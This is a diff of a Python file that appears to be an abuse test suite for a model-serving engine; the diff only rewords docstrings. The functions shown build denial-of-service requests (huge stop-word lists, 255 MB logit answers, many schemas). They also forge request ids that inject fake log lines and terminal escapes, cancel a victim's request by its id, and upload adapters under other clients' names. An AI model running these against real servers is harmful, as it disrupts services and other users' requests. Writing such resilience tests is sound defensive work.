@@ -50,7 +50,7 @@ def stream_of_attacks(doors: Doors, make: Callable[[int], service_pb2.ModelInfer
 
 
 def send_words_times_beams(doors: Doors) -> str:
-    """8 rows x beam 8 x 65,536 words in one request, which killed the engine once."""
+    """Send 8 rows x beam 8 x 65,536 words in one request, which once killed the engine."""
     return answers(doors, [_prompt(rows=8, beam_width=8, stop_words=_letters(65_536))])
 
 
@@ -59,7 +59,7 @@ def send_words_times_sequences(doors: Doors) -> str:
 
 
 def send_word_lists(doors: Doors) -> str:
-    """300,000 ids of stop words, and a million of bad words."""
+    """Send 300,000 ids of stop words, and a million of bad words."""
     return answers(doors, [_prompt(stop_words_list=_word_list(300_000)), _prompt(bad_words_list=_word_list(1_000_000))])
 
 
@@ -80,7 +80,7 @@ def send_one_long_repetitive_word(doors: Doors) -> str:
 
 
 def send_many_schemas(doors: Doors) -> str:
-    """64 rows of one request, each with a schema of its own."""
+    """Send 64 rows in one request, each with a schema of its own."""
     return answers(doors, [_guided([_schema(row) for row in range(64)])])
 
 
@@ -102,7 +102,7 @@ def send_as_many_biases_as_allowed(doors: Doors) -> str:
 
 
 def ask_for_logits(doors: Doors) -> str:
-    """Logits of 1,300 tokens: 255 MB an answer."""
+    """Ask for the logits of 1,300 tokens: 255 MB an answer."""
     return answers(doors, [_with_logits("generation_unary", 1300)] * 4, at_once=4)
 
 
@@ -111,7 +111,7 @@ def ask_for_as_many_logits_as_allowed(doors: Doors) -> str:
 
 
 def ask_the_victims_model_for_as_many_logits_as_allowed(doors: Doors) -> str:
-    """All answers of a model pass one thread, which copies them: 85 tokens are as many as one that streams allows."""
+    """Ask for the logits of 85 tokens, the most that a streaming request may: one thread copies all answers."""
     return stream_of_attacks(doors, lambda _: _with_logits(STREAMING_MODEL, _MAX_STREAMED_LOGITS), at_once=4)
 
 
@@ -132,20 +132,20 @@ def penalise_long_prompts(doors: Doors) -> str:
 
 
 def send_forged_ids(doors: Doors) -> str:
-    """Ids that would begin a line of the log, steer a terminal, or fill a disk."""
+    """Send ids that would begin a line of the log, steer a terminal, or fill a disk."""
     ids = ["a\n2026-01-01 00:00:00 ERROR engine[1] forged", "\x1b[31mred", "x" * 1_000_000]
     return answers(doors, [_prompt(request_id=one) for one in ids])
 
 
 def stop_the_victims_request(doors: Doors) -> str:
-    """Stop it by the victim's own id, from another connection."""
+    """Stop the victim's request by its id, from another connection."""
     return stream_of_attacks(
         doors, lambda _: infer_request("generation_unary", VICTIM_REQUEST_ID, stop=[[True]]), at_once=1
     )
 
 
 def upload_under_forged_names(doors: Doors) -> str:
-    """48 adapters of 9 MB at once for the default model, each from a client that calls itself somebody else."""
+    """Send 48 adapters of 9 MB at once for the default model, each under another client's name."""
     width, config = 64 * 2 * 576, [[_ATTENTION_OUT, layer, 64] for layer in range(30)]
     weights = np.zeros((1, len(config), width), np.float32)
     requests = [
@@ -212,7 +212,7 @@ def _schema(seed: int) -> str:
 
 
 def _letters(number: int) -> list[str]:
-    """So many different words of one character."""
+    """Different words of one character each."""
     return [chr(0x10000 + i) for i in range(number)]
 
 
@@ -221,5 +221,5 @@ def _words(seed: int, number: int) -> list[str]:
 
 
 def _word_list(number: int) -> list[list[int]]:
-    """So many words of one token each, in upstream's form."""
+    """Words of one token each, in upstream's form."""
     return [[i % 40_000 for i in range(number)], list(range(1, number + 1))]
